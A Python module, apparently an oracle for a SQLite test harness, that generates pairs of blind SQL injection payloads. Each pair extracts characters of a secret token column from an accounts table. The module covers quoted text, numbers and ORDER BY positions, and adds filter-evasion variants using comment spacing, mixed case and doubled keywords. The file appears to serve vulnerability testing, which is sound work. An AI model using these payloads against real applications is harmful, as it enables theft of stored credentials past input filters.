"""SQL placed where a value belongs: which shape gets past which quoting or filter? Used by oracles over SQLite.

The proof is a *pair* of inputs that differ only in a number: in one an expression over a secret column holds, in the
other it does not. A program whose answers follow the expression has told the secret, whatever it shows of it; a program
that takes both for text cannot tell them apart.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import NamedTuple

CONDITION = "COND"
"""Stands in a template for the expression."""

KEYWORDS = ("SELECT", "FROM", "WHERE", "UNION", "AND", "OR", "CASE", "LIKE")


class Pair(NamedTuple):
    """Two inputs; the expression in ``holds`` is true and the one in ``fails`` is false."""

    holds: str
    fails: str


def pairs(template: str, secret: str, source: str = "token FROM accounts LIMIT 1") -> list[Pair]:
    """Three pairs for a template, each about another character of the secret. No quotes, letters compared by number, so
    that neither escaping nor a change of case matters."""
    column, _, rest = source.partition(" ")
    found = []
    for at in (1, 6, 11):
        ask = f"(SELECT unicode(substr({column},{at},1)) {rest})"
        right = ord(secret[at - 1])
        found.append(Pair(*(template.replace(CONDITION, f"{ask}={code}") for code in (right, right + 40))))
    return found


def spelled(pair: Pair) -> Iterator[Pair]:
    """A pair as it is, without spaces, in mixed case, and with each keyword doubled inside itself (for filters that
    take it out once)."""
    yield pair
    yield Pair(*(text.replace(" ", "/**/") for text in pair))
    yield Pair(*(_each_keyword(text, lambda word: word[0].lower() + word[1:].swapcase()) for text in pair))
    yield Pair(*(_each_keyword(text, lambda word: word[:1] + word + word[1:]) for text in pair))


def _each_keyword(text: str, change: Callable[[str], str]) -> str:
    return re.sub(rf"\b({'|'.join(KEYWORDS)})\b", lambda found: change(found.group()), text)


def in_text(known: str) -> tuple[str, ...]:
    """Templates for a place between quotes in a WHERE clause; ``known`` is text that a visible row contains."""
    return (
        f"{known}%' AND {CONDITION} AND '1%' LIKE '1",
        f"{known}' AND {CONDITION} AND '1'='1",
        f"zzz' OR {CONDITION} -- ",
        f"zzz') OR {CONDITION} -- ",
        f"zzz' OR {CONDITION} /*",
        f'{known}%" AND {CONDITION} AND "1%" LIKE "1',
        f'zzz" OR {CONDITION} -- ',
        f"zzz' OR {CONDITION} OR 'zzz'='",
    )


def in_number(known: int) -> tuple[str, ...]:
    """Templates for a number without quotes, and for one that is quoted all the same."""
    return (
        f"{known} AND {CONDITION}",
        f"0 OR {CONDITION}",
        f"{known}) AND ({CONDITION}",
        f"{known}' AND {CONDITION} AND '1'='1",
        f'{known}" AND {CONDITION} AND "1"="1',
        f"0' OR {CONDITION} -- ",
    )


def in_column(known: str) -> tuple[str, ...]:
    """Templates for a column's name in ORDER BY: bare, with a prefix that a check may ask for, and quoted."""
    flip = f"(CASE WHEN {CONDITION} THEN 1 ELSE -1 END)"
    return (
        f"{known} * {flip}",
        f"{flip} * {known}",
        f'{known}" * {flip} * "{known}',
        f"{known}` * {flip} * `{known}",
        f"{known}] * {flip} * [{known}",
    )


def in_direction(unique: str) -> tuple[str, ...]:
    """Templates for the direction of an ORDER BY over rows that tie; ``unique`` is a column that tells them apart."""
    flip = f"{unique} * (CASE WHEN {CONDITION} THEN 1 ELSE -1 END)"
    return (f"asc, {flip}", f"desc, {flip}", f", {flip}")
